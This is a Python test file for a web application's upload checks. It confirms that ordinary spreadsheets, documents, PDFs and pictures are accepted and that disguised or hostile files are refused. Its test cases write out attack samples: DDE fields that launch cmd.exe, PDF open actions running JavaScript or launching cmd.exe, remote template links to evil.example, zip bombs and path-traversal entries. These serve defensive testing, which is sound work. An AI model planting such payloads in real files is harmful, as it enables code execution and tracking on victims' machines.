"""Honest files are taken; every hostile one is refused with a sentence."""

import hashlib
import io
import struct
import zlib

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from lineofsight import uploads
from lineofsight.uploads import checks

from .conftest import archive, pdf, word, workbook

EVERY = checks.KINDS
CSV = b"Name,Category\nChild A,Neglect\n"
RELS = '<Relationships><Relationship Id="r" Type="{type}" Target="{target}" {mode}/></Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def refusal(send, name, data, allowed=EVERY):
    with pytest.raises(uploads.RefusedUpload) as refused:
        uploads.receive(send(name, data), allowed)
    sentence = str(refused.value)
    assert sentence.endswith(".") and len(sentence) > 30
    return sentence


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("list.csv", CSV, "csv"),
        ("list.txt", CSV, "csv"),
        ("list.csv", "Name\nÄnne\n".encode("utf-16"), "csv"),
        ("LIST.XLSX", workbook([["Name"], ["A"]]), "xlsx"),
        ("notes.docx", word("Text"), "docx"),
        ("report.pdf", pdf(), "pdf"),
        ("cin.xml", b'<?xml version="1.0"?><Message/>', "xml"),
    ],
)
def test_an_honest_file_is_taken_as_it_is(send, name, data, kind):
    received = uploads.receive(send(name, data))
    assert (received.name, received.data, received.kind) == (name, data, kind)
    assert received.sha256 == hashlib.sha256(data).hexdigest()
    assert received.content_type == checks.CONTENT_TYPES[kind]


def test_our_own_documents_pass(send):
    from lineofsight.engine.documents.blocks import Document, Heading, Paragraph
    from lineofsight.engine.documents.pdf import write_pdf
    from lineofsight.engine.documents.word import write_word

    document = Document(title="Report", parts=(Heading(1, "One"), Paragraph("Text")))
    assert uploads.receive(send("r.docx", write_word(document))).kind == "docx"
    assert uploads.receive(send("r.pdf", write_pdf(document))).kind == "pdf"


def test_a_name_loses_its_path_and_signs_that_do_not_print(send):
    file = send("list.csv", CSV)
    file._name = "C:\\Users\\me\\..\\li\u202est\n.csv"
    assert uploads.receive(file).name == "list.csv"


@pytest.mark.parametrize("name", ["list.exe", "list.xls", "list.docm", "list", ".csv.js", "", "list.csv.zip"])
def test_other_kinds_are_refused_with_the_kinds_that_are_taken(send, name):
    file = send("x.csv", CSV)
    file._name = name
    with pytest.raises(uploads.RefusedUpload, match=r"Upload it as CSV or Excel \(\.xlsx\)\."):
        uploads.receive(file, {"csv", "xlsx"})


def test_a_file_that_is_too_large_or_empty_is_refused(send, monkeypatch):
    monkeypatch.setitem(checks.LARGEST, "csv", 1024**2)
    assert "larger than 1 MB" in refusal(send, "a.csv", b"a" * (1024**2 + 1))
    assert "empty" in refusal(send, "a.csv", b" \r\n")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.csv", workbook([["Name"]])),
        ("a.csv", pdf()),
        ("a.csv", b"<html><script>alert(1)</script></html>"),
        ("a.csv", b"MZ\x90\x00" + bytes(100)),
        ("a.csv", b"Name\x00\x01\x02,\n"),
        ("a.csv", b"{\\rtf1 text}"),
        ("a.xml", b"<!DOCTYPE html><html></html>"),
        ("a.xml", b"Name,Category"),
        ("a.xlsx", CSV),
        ("a.xlsx", word("Text")),
        ("a.docx", workbook([["Name"]])),
        ("a.pdf", b"PK\x03\x04"),
        ("a.png", b"\xff\xd8\xff\xe0"),
        ("a.jpg", b"\x89PNG\r\n\x1a\n"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(send, name, data):
    assert refusal(send, name, data)


def test_a_file_with_a_password_or_of_an_old_format_is_refused(send):
    assert "password" in refusal(send, "a.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    assert "password" in refusal(send, "a.pdf", pdf(lambda writer: writer.encrypt("secret")))


def office(kind, **parts):
    main = {"xlsx": "xl/workbook.xml", "docx": "word/document.xml"}[kind]
    return archive({main: "<x/>", **{name.replace("__", "/"): content for name, content in parts.items()}})


@pytest.mark.parametrize(
    ("kind", "part"),
    [
        ("xlsx", "xl/vbaProject.bin"), ("docx", "word/vbaProject.bin"), ("docx", "word/VBADATA.xml"),
        ("xlsx", "xl/macrosheets/sheet1.xml"), ("xlsx", "xl/dialogsheets/sheet1.xml"), ("xlsx", "customUI/customUI.xml"),
        ("xlsx", "xl/embeddings/oleObject1.bin"), ("docx", "word/embeddings/Microsoft_Excel.xlsx"),
        ("docx", "word/activeX/activeX1.xml"), ("xlsx", "xl/ctrlProps/ctrlProp1.xml"), ("docx", "word/afchunk.mht"),
        ("xlsx", "xl/externalLinks/externalLink1.xml"), ("xlsx", "xl/connections.xml"),
        ("xlsx", "xl/queryTables/queryTable1.xml"), ("xlsx", "xl/model/item.data"),
    ],
)  # fmt: skip
def test_active_content_is_refused(send, kind, part):
    """F7."""
    assert refusal(send, f"a.{kind}", office(kind, **{part: b"x"}))


def test_a_macro_file_renamed_is_refused(send):
    """F7."""
    types = '<Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
    assert "macros" in refusal(send, "a.xlsx", archive({"xl/workbook.xml": "<x/>"}, content_types=types))


@pytest.mark.parametrize(
    "rels",
    [
        RELS.format(type=f"{OFFICE}/attachedTemplate", target="http://evil.example/t.dotm", mode='TargetMode="External"'),
        RELS.format(type=f"{OFFICE}/image", target="http://evil.example/track.png", mode='TargetMode="External"'),
        RELS.format(type=f"{OFFICE}/oleObject", target="file:///x", mode="TargetMode = 'External'"),
        RELS.format(type=f"{OFFICE}/hyperlink", target="file://server/share", mode='TargetMode="External"'),
        RELS.format(type=f"{OFFICE}/frame", target="http://evil.example", mode='TargetMode="&#69;xternal"'),
        RELS.format(type=f"{OFFICE}/image", target="http://e.example", mode='TargetMode="External"').encode("utf-16"),
        '<!DOCTYPE x [<!ENTITY e "External">]>' + RELS.format(type="t", target="u", mode='TargetMode="&e;"'),
        '<?xml version="1.0" encoding="UTF-7"?>' + RELS.format(type="t", target="u", mode=""),
    ],
)  # fmt: skip
def test_links_that_load_something_are_refused(send, rels):
    """F7."""
    assert refusal(send, "a.docx", office("docx", **{"word/_rels/document.xml.rels": rels}))


def test_a_link_to_a_web_page_is_no_danger(send):
    rels = RELS.format(type=f"{OFFICE}/hyperlink", target="https://example.org", mode='TargetMode="External"')
    assert uploads.receive(send("a.docx", office("docx", **{"word/_rels/document.xml.rels": rels})))


@pytest.mark.parametrize(
    "field",
    [
        "<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>",
        "<w:instrText>DD</w:instrText><w:r/><w:instrText>E cmd</w:instrText>",
        "<w:instrText><![CDATA[DDE]]> cmd</w:instrText>",
        '<w:fldSimple w:instr=" DDE excel "/>',
    ],
)
def test_a_dde_field_is_refused(send, field):
    """F7."""
    document = archive({"word/document.xml": f"<w:document>{field}</w:document>"})
    assert "links" in refusal(send, "a.docx", document)


def test_a_bomb_and_a_path_that_leads_elsewhere_are_refused(send):
    assert refusal(send, "a.xlsx", office("xlsx", **{"xl/worksheets/sheet1.xml": b"0" * 30_000_000}))
    assert refusal(send, "a.xlsx", office("xlsx", **{"../../evil.xml": b"x"}))
    assert refusal(send, "a.docx", office("docx", **{"word/inner.zip": archive({})}))
    assert refusal(send, "a.docx", b"PK\x03\x04" + bytes(100))


def open_with(writer, action):
    """What the PDF does when it is opened."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    made = {NameObject(k): NameObject(v) if v[0] == "/" else TextStringObject(v) for k, v in action.items()}
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(made))


@pytest.mark.parametrize(
    "add",
    [
        lambda writer: open_with(writer, {"/S": "/JavaScript", "/JS": "app.alert(1)"}),
        lambda writer: open_with(writer, {"/S": "/Launch", "/F": "cmd.exe"}),
        lambda writer: writer.add_attachment("evil.exe", b"MZ"),
    ],
)
def test_a_pdf_with_scripts_or_attachments_is_refused(send, add):
    """F7."""
    assert "scripts or attachments" in refusal(send, "a.pdf", pdf(add))


def test_a_pdf_that_cannot_be_read_is_refused(send):
    assert "could not be read safely" in refusal(send, "a.pdf", b"%PDF-1.7\n" + b"garbage" * 50)


def png(width, height):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + b"IHDR"
        + header
        + struct.pack(">I", zlib.crc32(b"IHDR" + header))
    )


def jpeg(width, height):
    return b"\xff\xd8\xff\xe0\x00\x04ab\xff\xc0\x00\x11\x08" + struct.pack(">HH", height, width) + bytes(20)


def test_pictures_are_limited_to_25_megapixels(send):
    """F9."""
    for name, make, kind in (("a.png", png, "PNG"), ("a.jpg", jpeg, "JPEG")):
        assert uploads.receive(send(name, photograph(kind, size=(5000, 5000))), EVERY)
        assert "megapixels" in refusal(send, name, make(5001, 5000))
    assert "damaged" in refusal(send, "a.jpg", b"\xff\xd8\xff" + bytes(50))
    assert "damaged" in refusal(send, "a.png", b"\x89PNG\r\n\x1a\n" + bytes(4))


PLACE = "Quillon Zzyzxworth, 4 Tern Lane"


def photograph(kind, size=(40, 20)):
    """A picture with a place, a comment and something behind its end."""
    picture, out = Image.new("RGB", size, "white"), io.BytesIO()
    picture.paste("black", (0, 0, size[0] // 2, size[1]))
    exif = picture.getexif()
    exif[0x0112], exif[0x010E] = 6, PLACE  # to be turned by a quarter; what it shows
    exif.get_ifd(0x8825)[2] = (53.0, 24.0, 30.0)
    kept = PngInfo()
    kept.add_text("Comment", PLACE)
    picture.save(out, kind, exif=exif, **({"pnginfo": kept} if kind == "PNG" else {"comment": PLACE.encode()}))
    return out.getvalue() + PLACE.encode()


@pytest.mark.parametrize(("name", "kind"), [("a.png", "PNG"), ("a.jpg", "JPEG")])
def test_a_picture_keeps_what_it_shows_and_nothing_that_is_hidden_in_it(send, name, kind):
    """F9."""
    sent = photograph(kind)
    assert PLACE.encode() in sent
    received = uploads.receive(send(name, sent), EVERY)
    assert b"Zzyzx" not in received.data and b"Exif" not in received.data
    shown = Image.open(io.BytesIO(received.data))
    shown.load()
    assert not shown.getexif() and not shown.info.get("comment") and not getattr(shown, "text", None)
    # It stands the way up it was taken: its dark half was on the left and is at the top.
    assert shown.size == (20, 40)
    assert sum(shown.getpixel((10, 5))[:3]) < 90 < 600 < sum(shown.getpixel((10, 35))[:3])
    assert received.sha256 == hashlib.sha256(received.data).hexdigest()


def suspicious(data):
    return "found" if b"EICAR" in data else None


def test_what_the_virus_scanner_finds_is_refused(send, settings):
    settings.UPLOAD_SCANNER = f"{suspicious.__module__}.suspicious"
    assert "virus scanner" in refusal(send, "a.csv", b"EICAR,\n")
    assert uploads.receive(send("a.csv", CSV))
